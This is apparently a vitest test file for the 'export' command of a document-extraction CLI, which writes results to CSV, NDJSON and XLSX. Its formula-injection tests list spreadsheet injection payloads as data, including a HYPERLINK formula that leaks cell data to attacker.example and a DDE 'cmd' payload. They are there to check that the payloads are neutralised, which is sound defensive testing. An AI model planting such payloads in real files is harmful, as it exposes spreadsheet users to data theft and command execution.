import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterEach, describe, expect, it } from 'vitest';
import type { RunningEmulator } from '../../../src/emulator/index.js';
import { emulatorEnv, startTestEmulator, UNTHROTTLED_FLAGS } from '../../helpers/emulator-run.js';
import { labelledPdf } from '../../helpers/make-pdf.js';
import { isolatedEnv, runCli } from '../../helpers/run-cli.js';
import { parseNdjson } from '../../helpers/workspace.js';

interface FakeResult {
  status?: string;
  path?: string;
  model?: string | null;
  pages?: number;
  missing?: number[];
  data?: unknown;
}

/** A result file shaped like the ones docextract writes (src/batch/result-file.ts). */
function resultJson(result: FakeResult): string {
  return `${JSON.stringify({
    status: result.status ?? 'complete',
    source: { path: result.path ?? 'in/x.pdf', sha256: 'ab'.repeat(32), size: 10, type: 'pdf', pages: result.pages ?? 1 },
    model: result.model === undefined ? 'invoice' : result.model,
    pages: { total: result.pages ?? 1, processed: result.pages ?? 1, missing: result.missing ?? [] },
    job: null,
    extraction_id: null,
    warnings: [],
    credits: 1,
    started_at: '2026-01-01T00:00:00.000Z',
    completed_at: '2026-01-01T00:00:01.000Z',
    generator: 'docextract/test',
    data: result.data ?? {},
  })}\n`;
}

function resultsFolder(files: Record<string, string>): { dir: string; results: string; tables: string } {
  const dir = mkdtempSync(join(tmpdir(), 'docextract-export-'));
  const results = join(dir, 'results');
  mkdirSync(results);
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(dirname(join(results, name)), { recursive: true });
    writeFileSync(join(results, name), text);
  }
  return { dir, results, tables: join(dir, 'tables') };
}

/** A strict RFC 4180 read: CRLF records, every row as wide as the header, no loose quotes. */
function readCsv(path: string): Record<string, string>[] {
  return parse(readFileSync(path), { columns: true, record_delimiter: '\r\n', relax_quotes: false, relax_column_count: false, bom: false }) as Record<
    string,
    string
  >[];
}

function header(path: string): string {
  return readFileSync(path, 'utf8').split('\r\n')[0] as string;
}

describe('docextract export', () => {
  it('writes one table per type and one per list of objects, with a stable header and a summary', async () => {
    const ws = resultsFolder({
      'a.pdf.json': resultJson({
        path: 'in/a.pdf',
        data: {
          vendor: { name: 'ACME' },
          total: 10,
          line_items: [
            { sku: 'A1', qty: 2 },
            { sku: 'A2', qty: 1 },
          ],
        },
      }),
      'sub/b.pdf.json': resultJson({
        // Named from the result's own folder, as docextract names it.
        path: '../in/sub/b.pdf',
        status: 'partial',
        pages: 7,
        missing: [5, 6, 7],
        data: { vendor: { name: 'Beta', vat: 'FR1' }, tags: ['x', 'y'] },
      }),
      'c.png.json': resultJson({ path: 'in/c.png', model: null, data: { document_type: 'receipt', merchant: 'Shop' } }),
      'notes.json': '{"hello": "world"}\n',
    });
    const env = isolatedEnv();
    const run = await runCli(['export', ws.results, '--out', ws.tables, '--json'], { env });
    expect(run.code).toBe(0);
    expect(JSON.parse(run.stdout)).toEqual({
      out: ws.tables,
      format: 'csv',
      documents: 3,
      documents_in_parts: 0,
      tables: [
        { file: 'invoice.csv', rows: 2 },
        { file: 'invoice.line_items.csv', rows: 2 },
        { file: 'receipt.csv', rows: 1 },
      ],
      skipped: 1,
      problems: 0,
      untabulated: [],
    });
    expect(run.stderr).toContain('skipped notes.json: not a docextract result');
    // The data first; where each row comes from after it.
    expect(header(join(ws.tables, 'invoice.csv'))).toBe(
      'source_file,row,status,model,pages,missing_pages,tags,total,vendor.name,vendor.vat,source_pages,sha256,result_file,reviewed',
    );
    const invoices = readCsv(join(ws.tables, 'invoice.csv'));
    const partial = invoices.find((row) => row.source_file === 'in/sub/b.pdf');
    expect(partial).toMatchObject({
      status: 'partial',
      pages: '7',
      missing_pages: '[5,6,7]',
      tags: '["x","y"]',
      'vendor.vat': 'FR1',
      result_file: join('sub', 'b.pdf.json'),
    });
    expect(readCsv(join(ws.tables, 'invoice.line_items.csv'))).toEqual([
      { source_file: 'in/a.pdf', row: '1', parent: 'invoice', parent_row: '1', qty: '2', sku: 'A1', result_file: 'a.pdf.json' },
      { source_file: 'in/a.pdf', row: '2', parent: 'invoice', parent_row: '1', qty: '1', sku: 'A2', result_file: 'a.pdf.json' },
    ]);
    expect(readCsv(join(ws.tables, 'receipt.csv'))[0]).toMatchObject({ model: '', document_type: 'receipt', merchant: 'Shop' });
    // Sends nothing and needs no key: the state folder is never created.
    expect(existsSync(join(env.XDG_STATE_HOME as string, 'docextract'))).toBe(false);
  });

  it('round-trips commas, quotes, newlines and unicode through a strict RFC 4180 parser, with a BOM on request', async () => {
    // (A value a spreadsheet would run is not written as it is: see the formula test below.)
    const awkward = ['a,b', 'say "hi"', 'two\nlines', 'cr\rhere', 'crlf\r\nend', 'Zoë 東京 🚀', ' padded ', 'SUM(A1)=2'];
    const ws = resultsFolder(
      Object.fromEntries(awkward.map((value, i) => [`r${i}.json`, resultJson({ path: `in/${value}.pdf`, data: { note: value, [`k,"${i}"`]: value } })])),
    );
    const run = await runCli(['export', ws.results, '--out', ws.tables, '--bom'], { env: isolatedEnv() });
    expect(run.code).toBe(0);
    const bytes = readFileSync(join(ws.tables, 'invoice.csv'));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parse(bytes, { columns: true, bom: true, record_delimiter: '\r\n' }) as Record<string, string>[];
    expect(rows.map((row) => row.note).sort()).toEqual([...awkward].sort());
    for (const row of rows) expect(row.source_file).toBe(`in/${row.note}.pdf`);
    awkward.forEach((value, i) => expect(rows.find((row) => row.note === value)?.[`k,"${i}"`]).toBe(value));
    expect(run.stderr).toMatch(/exported 8 documents/);
  });

  it('writes no cell a spreadsheet would run as a formula: values, keys and file names get a leading quote; numbers, negative ones too, stay as they are', async () => {
    const formulas = [
      '=HYPERLINK("http://attacker.example/?"&A1,"click")',
      "+cmd|' /C calc'!A0",
      '@SUM(1+1)',
      '\t=1+1',
      '\r=1+1',
      '-1+cmd',
      '\uFF1D1+1',
      '\uFF0B1',
      '\uFF0D1+1',
      '\uFF20SUM(1)',
      "'=quoted already",
    ];
    const data = {
      ...Object.fromEntries(formulas.map((value, i) => [`f${i}`, value])),
      amount: -12.5,
      amount_text: '-12.5',
      plus_text: '+3',
      "=cmd|' /C calc'!A0": 'a formula as a column name',
      line_items: [{ description: '@SUM(A1:A9)', amount: -2 }],
    };
    const ws = resultsFolder({ '=evil.pdf.json': resultJson({ path: '=evil.pdf', data }) });
    const run = await runCli(['export', ws.results, '--out', ws.tables], { env: isolatedEnv() });
    expect(run.code, run.stderr).toBe(0);
    const [row] = readCsv(join(ws.tables, 'invoice.csv'));
    formulas.forEach((value, i) => expect(row?.[`f${i}`], JSON.stringify(value)).toBe(`'${value}`));
    expect(row).toMatchObject({ source_file: "'=evil.pdf", result_file: "'=evil.pdf.json", amount: '-12.5', amount_text: '-12.5', plus_text: '+3' });
    expect(row?.["'=cmd|' /C calc'!A0"]).toBe('a formula as a column name');
    expect(readCsv(join(ws.tables, 'invoice.line_items.csv'))).toEqual([
      { source_file: "'=evil.pdf", row: '1', parent: 'invoice', parent_row: '1', amount: '-2', description: "'@SUM(A1:A9)", result_file: "'=evil.pdf.json" },
    ]);
    // Whatever the cell, header included: it starts like no formula, or it is a plain number.
    for (const table of readdirSync(ws.tables)) {
      const cells = (parse(readFileSync(join(ws.tables, table)), { record_delimiter: '\r\n' }) as string[][]).flat();
      for (const cell of cells)
        expect(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell), `${table}: ${JSON.stringify(cell)}`).toBe(false);
    }
  });

  it('exports results of 300-character models to two files of stable, shortened names', async () => {
    const long = (end: string): string => `${'m'.repeat(299)}${end}`;
    const ws = resultsFolder({ 'a.json': resultJson({ path: 'in/a.pdf', model: long('a') }), 'b.json': resultJson({ path: 'in/b.pdf', model: long('b') }) });
    const run = await runCli(['export', ws.results, '--out', ws.tables, '--json'], { env: isolatedEnv() });
    expect(run.code, run.stderr).toBe(0);
    const files = readdirSync(ws.tables).sort();
    expect(files).toHaveLength(2);
    for (const file of files) expect(file).toMatch(/^m{32}~[0-9a-f]{16}\.csv$/);
    expect(files.map((file) => readCsv(join(ws.tables, file))[0]?.model).sort()).toEqual([long('a'), long('b')]);
  });

  it('names a broken file, exports the rest, and exits 1', async () => {
    const ws = resultsFolder({
      'good.json': resultJson({ path: 'in/good.pdf' }),
      'broken.json': '{"status": "complete", "source": {',
    });
    const run = await runCli(['export', ws.results, '--out', ws.tables], { env: isolatedEnv() });
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(/broken\.json: not valid JSON/);
    expect(readCsv(join(ws.tables, 'invoice.csv')).map((row) => row.source_file)).toEqual(['in/good.pdf']);
  });

  it('exports 2,000 results with items in two passes: every row once, the same header whatever the file order', async () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 2000; i++) {
      // Each document brings its own extra field, so the header is only known after the last file.
      files[`batch-${i % 10}/doc-${i}.pdf.json`] = resultJson({
        path: `in/doc-${i}.pdf`,
        data: { n: i, [`only_${i % 50}`]: 'x', items: [{ i: 1 }, { i: 2 }, { i: 3 }] },
      });
    }
    const ws = resultsFolder(files);
    const run = await runCli(['export', ws.results, '--out', ws.tables, '--json'], { env: isolatedEnv() });
    expect(run.code).toBe(0);
    expect(JSON.parse(run.stdout).tables).toEqual([
      { file: 'invoice.csv', rows: 2000 },
      { file: 'invoice.items.csv', rows: 6000 },
    ]);
    const rows = readCsv(join(ws.tables, 'invoice.csv'));
    expect(new Set(rows.map((row) => row.n)).size).toBe(2000);
    expect(Object.keys(rows[0] as object)).toHaveLength(6 + 1 + 50 + 4);
    expect(readCsv(join(ws.tables, 'invoice.items.csv'))).toHaveLength(6000);
    expect(readdirSync(ws.tables).sort()).toEqual(['invoice.csv', 'invoice.items.csv']);
  });

  it('--format ndjson writes one flat object per document to a file, or to stdout with --out -', async () => {
    const ws = resultsFolder({ 'a.json': resultJson({ path: 'in/a.pdf', data: { vendor: { name: 'ACME' }, items: [{ sku: 'A' }] } }) });
    const toFile = await runCli(['export', ws.results, '--out', ws.tables, '--format', 'ndjson'], { env: isolatedEnv() });
    expect(toFile.code).toBe(0);
    const expected = {
      source_file: 'in/a.pdf',
      row: 1,
      status: 'complete',
      model: 'invoice',
      pages: 1,
      missing_pages: null,
      'vendor.name': 'ACME',
      items: [{ sku: 'A' }],
      source_pages: null,
      sha256: 'ab'.repeat(32),
      result_file: 'a.json',
      reviewed: false,
    };
    expect(parseNdjson(readFileSync(join(ws.tables, 'documents.ndjson'), 'utf8'))).toEqual([expected]);
    const toStdout = await runCli(['export', ws.results, '--out', '-', '--format', 'ndjson', '--json'], { env: isolatedEnv() });
    expect(toStdout.code).toBe(0);
    expect(parseNdjson(toStdout.stdout)).toEqual([expected]);
    expect(JSON.parse(toStdout.stderr)).toMatchObject({ out: '-', format: 'ndjson', documents: 1 });
  });

  it('refuses a missing results folder and a CSV to stdout as usage errors', async () => {
    const ws = resultsFolder({});
    expect((await runCli(['export', join(ws.dir, 'nope'), '--out', ws.tables], { env: isolatedEnv() })).code).toBe(2);
    expect((await runCli(['export', ws.results, '--out', '-'], { env: isolatedEnv() })).code).toBe(2);
    expect((await runCli(['export', ws.results, '--out', ws.tables, '--format', 'xls'], { env: isolatedEnv() })).code).toBe(2);
    expect((await runCli(['export', ws.results, '--out', '-', '--format', 'xlsx'], { env: isolatedEnv() })).code).toBe(2);
    expect((await runCli(['export', ws.results, '--out', ws.tables, '--format', 'xlsx', '--bom'], { env: isolatedEnv() })).code).toBe(2);
  });
});

describe('docextract export --format xlsx', () => {
  /** Every cell of every sheet, read back by exceljs, with its sheet and address. */
  function everyCell(workbook: ExcelJS.Workbook): { sheet: string; cell: ExcelJS.Cell }[] {
    const cells: { sheet: string; cell: ExcelJS.Cell }[] = [];
    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push({ sheet: sheet.name, cell }))));
    return cells;
  }

  /** The rows of a sheet as records by its header, each value as exceljs read it. */
  function sheetRecords(sheet: ExcelJS.Worksheet | undefined): { record: Record<string, ExcelJS.CellValue>; cells: Record<string, ExcelJS.Cell> }[] {
    const header = (sheet?.getRow(1).values as ExcelJS.CellValue[] | undefined) ?? [];
    const rows: { record: Record<string, ExcelJS.CellValue>; cells: Record<string, ExcelJS.Cell> }[] = [];
    sheet?.eachRow((row, number) => {
      if (number === 1) return;
      const record: Record<string, ExcelJS.CellValue> = {};
      const cells: Record<string, ExcelJS.Cell> = {};
      header.forEach((name, column) => {
        if (typeof name !== 'string') return;
        cells[name] = row.getCell(column);
        record[name] = row.getCell(column).value;
      });
      rows.push({ record, cells });
    });
    return rows;
  }

  it('writes one workbook with typed cells: text stays text (leading zeros kept), numbers numbers, dates dates, and no formula anywhere', async () => {
    const formulas = ['=HYPERLINK("http://attacker.example/?"&A1,"click")', '@SUM(1+1)', "+cmd|' /C calc'!A0", '-1+cmd'];
    const data = {
      invoice_number: '00670494',
      total: 1234.5,
      refund: -12.5,
      amount_text: '-12.5',
      issue_date: '2024-03-31',
      not_a_date: '2024-02-30',
      paid: true,
      tags: ['a', 'b'],
      ...Object.fromEntries(formulas.map((value, i) => [`f${i}`, value])),
      '=cmd': 'a formula as a column name',
      line_items: [
        { description: '=1+1', amount: 10 },
        { description: 'nut', amount: 2.5 },
      ],
    };
    const ws = resultsFolder({
      'a.pdf.json': resultJson({ path: 'in/a.pdf', data }),
      'b.pdf.json': resultJson({ path: 'in/b.pdf', data: { invoice_number: '007', total: 3 } }),
      'c.pdf.json': resultJson({ path: 'in/c.pdf', model: 'inv[oice]:*?/\\ of ACME, the long name', data: { n: 1 } }),
      'd.pdf.json': resultJson({ path: 'in/d.pdf', model: 'Invoice', data: { n: 2 } }),
      'e.pdf.json': resultJson({ path: 'in/e.pdf', model: 'History', data: { n: 3 } }),
    });
    const run = await runCli(['export', ws.results, '--out', ws.tables, '--format', 'xlsx', '--json'], { env: isolatedEnv() });
    expect(run.code, run.stderr).toBe(0);
    expect(readdirSync(ws.tables)).toEqual(['tables.xlsx']);
    const summary = JSON.parse(run.stdout) as { format: string; documents: number; tables: { file: string; sheet: string; table: string; rows: number }[] };
    expect(summary).toMatchObject({ format: 'xlsx', documents: 5 });
    expect(summary.tables.map((table) => table.table)).toEqual([
      'History',
      'Invoice',
      expect.stringMatching(/^inv_oice_{7}of_ACME__the_long~[0-9a-f]{16}$/),
      'invoice',
      'invoice.line_items',
    ]);
    // The sheets come in table order; 'Invoice' comes first, so 'invoice' is the name Excel would take for the same.
    const sheetOf = (table: string): string | undefined => summary.tables.find((entry) => entry.table === table)?.sheet;
    expect(sheetOf('Invoice')).toBe('Invoice');
    expect(sheetOf('invoice')).toMatch(/^invoice~[0-9a-f]{8}$/);
    expect(summary.tables.find((table) => table.table === 'invoice.line_items')).toEqual({
      file: 'tables.xlsx',
      sheet: 'invoice.line_items',
      table: 'invoice.line_items',
      rows: 2,
    });
    expect(summary.tables.find((table) => table.table === 'invoice')?.rows).toBe(2);

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(join(ws.tables, 'tables.xlsx'));
    // Sheet names Excel accepts: at most 31 characters, none of []:*?/\, no two alike but for case, not History.
    const names = workbook.worksheets.map((sheet) => sheet.name);
    expect(names).toEqual(summary.tables.map((table) => table.sheet));
    for (const name of names) expect(name, name).toMatch(/^[^[\]:*?/\\]{1,31}$/);
    expect(new Set(names.map((name) => name.toLowerCase())).size).toBe(names.length);
    expect(names.map((name) => name.toLowerCase())).not.toContain('history');

    const invoices = sheetRecords(workbook.getWorksheet(sheetOf('invoice')));
    const a = invoices.find((row) => row.record.source_file === 'in/a.pdf');
    expect(a?.cells.invoice_number?.type).toBe(ExcelJS.ValueType.String);
    expect(a?.record).toMatchObject({
      invoice_number: '00670494',
      total: 1234.5,
      refund: -12.5,
      amount_text: '-12.5',
      not_a_date: '2024-02-30',
      paid: true,
      tags: '["a","b"]',
      row: 1,
      '=cmd': 'a formula as a column name',
    });
    expect(a?.cells.total?.type).toBe(ExcelJS.ValueType.Number);
    expect(a?.record.issue_date).toEqual(new Date(Date.UTC(2024, 2, 31)));
    expect(a?.cells.issue_date?.numFmt).toBe('yyyy-mm-dd');
    formulas.forEach((value, i) => {
      expect(a?.record[`f${i}`]).toBe(value);
      expect(a?.cells[`f${i}`]?.type).toBe(ExcelJS.ValueType.String);
    });
    expect(invoices.find((row) => row.record.source_file === 'in/b.pdf')?.record.invoice_number).toBe('007');

    const items = sheetRecords(workbook.getWorksheet('invoice.line_items'));
    expect(items.map((item) => [item.record.description, item.record.amount, item.record.parent, item.record.parent_row, item.record.result_file])).toEqual([
      ['=1+1', 10, 'invoice', 1, 'a.pdf.json'],
      ['nut', 2.5, 'invoice', 1, 'a.pdf.json'],
    ]);
    const cells = everyCell(workbook);
    expect(cells.length).toBeGreaterThan(50);
    for (const { sheet, cell } of cells) {
      expect(cell.type, `${sheet}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
      expect(cell.formula, `${sheet}!${cell.address}`).toBeUndefined();
    }
  });
});

describe('docextract export of whole files, page selections and parts in one folder', () => {
  let emulator: RunningEmulator | undefined;
  afterEach(async () => {
    await emulator?.close();
    emulator = undefined;
  });

  it('gives every child row exactly one parent row, every page row its source page, and every path relative to the folder exported', async () => {
    emulator = await startTestEmulator();
    const env = emulatorEnv(emulator);
    const ws = resultsFolder({});
    const inputs = join(ws.dir, 'in');
    mkdirSync(inputs);
    writeFileSync(join(inputs, 'inv-003.pdf'), await labelledPdf('Invoice', 3));
    writeFileSync(join(inputs, 'long.pdf'), await labelledPdf('Long', 160));
    const flags = ['--model', 'invoice', '--out', ws.results, ...UNTHROTTLED_FLAGS];
    const whole = await runCli(['extract', inputs, ...flags], { env });
    expect(whole.code, whole.stderr).toBe(0);
    const selected = await runCli(['extract', join(inputs, 'inv-003.pdf'), '--pages', '1,-1', ...flags], { env });
    expect(selected.code, selected.stderr).toBe(0);
    const run = await runCli(['export', ws.results, '--out', ws.tables], { env });
    expect(run.code, run.stderr).toBe(0);
    // Three results (long.pdf one of them, in two parts): documents are counted by result, and the rows per part are said to be.
    expect(run.stderr).toContain('exported 3 documents (1 in parts: a row per part) to ');
    const lines = await runCli(['export', ws.results, '--out', '-', '--format', 'ndjson', '--json'], { env });
    expect(lines.code, lines.stderr).toBe(0);
    expect(parseNdjson(lines.stdout)).toHaveLength(4);
    expect(JSON.parse(lines.stderr)).toMatchObject({ documents: 3, documents_in_parts: 1, tables: [{ file: '-', rows: 4 }] });

    const tables: Record<string, Record<string, string>[]> = {};
    for (const name of ['invoice', 'invoice.data.pages', 'invoice.line_items']) tables[name] = readCsv(join(ws.tables, `${name}.csv`));
    const invoices = tables.invoice ?? [];
    // inv-003.pdf whole and as pages 1 and 3; long.pdf as its two parts.
    expect(invoices.map((row) => [row.source_file, row.row, row.source_pages]).sort()).toEqual([
      ['../in/inv-003.pdf', '1', '1,3'],
      ['../in/inv-003.pdf', '1', '1-3'],
      ['../in/long.pdf', '1', '1-150'],
      ['../in/long.pdf', '2', '151-160'],
    ]);
    expect(header(join(ws.tables, 'invoice.csv'))).toMatch(/^source_file,row,status,model,pages,missing_pages,.*,source_pages,sha256,result_file,reviewed$/);
    for (const [name, rows] of Object.entries(tables)) {
      const key = (row: Record<string, string>): string => `${row.result_file}\0${row.row}`;
      expect(new Set(rows.map(key)).size, `${name}: result_file and row key every row`).toBe(rows.length);
      for (const row of rows) {
        // Paths are relative to the folder exported, in every table alike.
        expect(existsSync(join(ws.results, row.result_file as string)), `${name}: ${row.result_file}`).toBe(true);
        expect(existsSync(join(ws.results, row.source_file as string)), `${name}: ${row.source_file}`).toBe(true);
        if (name === 'invoice') continue;
        const parents = (tables[row.parent as string] ?? []).filter((parent) => parent.result_file === row.result_file && parent.row === row.parent_row);
        expect(parents, `${name} row ${key(row)}`).toHaveLength(1);
        expect(parents[0]?.source_file).toBe(row.source_file);
        expect(row.source_page, `${name} row ${key(row)}`).toMatch(/^\d+$/);
        if (name === 'invoice.line_items') expect(row.source_page).toBe(parents[0]?.source_page);
      }
    }
    const sourcePages = (file: string) =>
      (tables['invoice.data.pages'] ?? []).filter((page) => page.result_file === file).map((page) => Number(page.source_page));
    const resultOf = (source: string, pages: string) => invoices.find((row) => row.source_file === source && row.source_pages === pages)?.result_file as string;
    expect(sourcePages(resultOf('../in/inv-003.pdf', '1-3'))).toEqual([1, 2, 3]);
    expect(sourcePages(resultOf('../in/inv-003.pdf', '1,3'))).toEqual([1, 3]);
    expect(sourcePages(resultOf('../in/long.pdf', '1-150'))).toEqual(Array.from({ length: 160 }, (_, i) => i + 1));
    // The service numbers the pages it was sent: page 1 of the second part is the source's page 151.
    expect((tables['invoice.data.pages'] ?? []).find((page) => page.source_page === '151')).toMatchObject({ page: '1', parent_row: '2' });
  });
});

describe('docextract export of the demo', () => {
  let emulator: RunningEmulator | undefined;
  afterEach(async () => {
    await emulator?.close();
    emulator = undefined;
  });

  it("writes the demo invoices' line items (under pages) as invoice.line_items.csv, each row with its invoice, page and parent row", async () => {
    emulator = await startTestEmulator();
    const env = emulatorEnv(emulator);
    const ws = resultsFolder({});
    const demo = join(import.meta.dirname, '../../../fixtures/demo/invoices');
    const extract = await runCli(
      [
        'extract',
        join(demo, 'invoice-INV-2024-0117.pdf'),
        join(demo, 'invoice-INV-2024-0118.pdf'),
        '--model',
        'invoice',
        '--out',
        ws.results,
        '--rate-limit',
        'none',
      ],
      { env },
    );
    expect(extract.code, extract.stderr).toBe(0);
    const run = await runCli(['export', ws.results, '--out', ws.tables], { env });
    expect(run.code, run.stderr).toBe(0);
    expect(readdirSync(ws.tables).sort()).toEqual(['invoice.csv', 'invoice.data.pages.csv', 'invoice.line_items.csv']);
    expect(header(join(ws.tables, 'invoice.line_items.csv'))).toBe(
      'source_file,row,parent,parent_row,amount,description,quantity,unit_price,source_page,result_file',
    );
    expect(header(join(ws.tables, 'invoice.data.pages.csv'))).not.toContain('line_items');
    const pages = readCsv(join(ws.tables, 'invoice.data.pages.csv'));
    const items = readCsv(join(ws.tables, 'invoice.line_items.csv'));
    expect(new Set(items.map((item) => item.source_file)).size).toBe(2);
    for (const item of items) {
      const parent = pages.find((page) => page.result_file === item.result_file && page.row === item.parent_row);
      expect(item.parent).toBe('invoice.data.pages');
      expect(parent?.source_page, JSON.stringify(item)).toBe(item.source_page);
    }
    const results = readdirSync(ws.results, { recursive: true, encoding: 'utf8' }).filter((name) => name.endsWith('.pdf.json'));
    const itemsInResults = results.flatMap((name) =>
      (JSON.parse(readFileSync(join(ws.results, name), 'utf8')) as { data: { pages: { line_items: unknown[] }[] } }).data.pages.flatMap(
        (page) => page.line_items,
      ),
    );
    expect(items).toHaveLength(itemsInResults.length);
  });
});
